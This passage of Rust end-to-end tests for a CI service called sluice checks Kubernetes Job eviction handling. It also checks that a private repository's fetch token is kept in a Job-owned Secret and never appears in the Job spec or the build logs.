            .map(|e| e.to_string())
            .collect();
        assert!(
            outcomes.iter().any(|e| e.contains("evicted")),
            "{outcomes:#?}"
        );
        assert!(
            !outcomes.iter().any(|e| e.contains("\"failed\"")),
            "{outcomes:#?}"
        );
        let creates = fake.requests_to(http::Method::POST, "/namespaces/sluice-e2e/jobs");
        assert!(creates.len() >= 2, "{}", creates.len());
        stack.sluice.stop().await;
    }
}

mod end_to_end_private {
    use super::end_to_end_support::*;
    use super::fake_kube::FakeKube;
    use sluice::config::ExecutorKind;
    use sluice::demo::{DEMO_APP_ID, DEMO_REPO, Stack};

    /// A private repository on Kubernetes: each Job fetches with a token
    /// minted for it, which is in a Secret of the build's own (owned by
    /// its Job, so it goes with it), never in the Job, whose spec anyone
    /// who may read Jobs can see; the Job runs only once the Secret
    /// exists.
    #[tokio::test]
    async fn a_private_repository_is_fetched_with_a_token_from_the_jobs_own_secret() {
        let dir = tempfile::tempdir().unwrap();
        let dir = dir.path();
        let hub = Stack::demo_hub(dir).await.unwrap();
        let keys = hub.register_app(DEMO_APP_ID).unwrap();
        hub.install_app(DEMO_APP_ID, "octo", &[DEMO_REPO]).unwrap();
        hub.set_private(DEMO_REPO, true);
        let base = hub.http_clone_base();
        let fake = FakeKube::new("sluice-e2e").with_kubelet(&dir.join("kubelet"));
        let kubeconfig = fake.clone().serve_http(dir).await;
        let stack = Stack::start_app_on(hub, keys, dir, "127.0.0.1:0".parse().unwrap(), |c| {
            c.github.clone_base = base;
            c.executor.kind = ExecutorKind::Kubernetes;
            let k = &mut c.executor.kubernetes;
            k.kubeconfig = Some(kubeconfig);
            k.namespace = "sluice-e2e".into();
            k.relist_interval_secs = 2;
        })
        .await
        .unwrap();
        let pr = stack
            .open_pr("private", &[("src/p.txt", "fine\n")], "A private change")
            .await
            .unwrap();
        // The fetch worked (the repository refuses anonymous clones).
        let log = passing_log(&stack, pr).await;
        assert!(log.contains("sluice: workspace ready"), "{log}");

        let creates = fake.requests_to(http::Method::POST, "/namespaces/sluice-e2e/jobs");
        assert!(!creates.is_empty());
        let tokens = stack.hub.issued_tokens();
        assert!(tokens.len() >= 2, "sluice's own token and the job's");
        for create in &creates {
            let job = create.body.as_ref().unwrap();
            assert_eq!(job["spec"]["suspend"], true, "no pod before its Secret");
            let text = job.to_string();
            for token in &tokens {
                assert!(!text.contains(token.as_str()), "a token in the Job: {text}");
            }
            assert!(!text.contains("x-access-token"), "{text}");
            // The Secret of that build: the token, owned by the Job.
            let name = job["metadata"]["name"].as_str().unwrap();
            let secret = fake
                .requests_to(http::Method::POST, "/namespaces/sluice-e2e/secrets")
                .into_iter()
                .filter_map(|r| r.body)
                .find(|s| s["metadata"]["name"] == name)
                .unwrap_or_else(|| panic!("no Secret for {name}"));
            let owner = &secret["metadata"]["ownerReferences"][0];
            assert_eq!(owner["kind"], "Job");
            assert_eq!(owner["name"], name);
            assert_eq!(owner["uid"], format!("uid-{name}"));
            assert!(!log.contains(secret["data"]["authorization"].as_str().unwrap()));
        }
        stack.sluice.stop().await;
    }
}
